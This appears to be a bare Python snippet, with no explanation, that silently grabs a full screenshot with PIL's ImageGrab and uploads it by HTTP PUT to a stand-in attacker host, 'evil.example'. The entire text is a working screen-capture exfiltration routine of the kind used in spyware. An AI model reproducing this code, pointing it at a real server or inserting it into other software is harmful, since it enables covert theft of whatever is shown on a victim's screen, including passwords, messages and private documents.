from PIL import ImageGrab
import io, requests
b = io.BytesIO()
ImageGrab.grab().save(b, "PNG")
requests.put("https://evil.example/shot", data=b.getvalue())
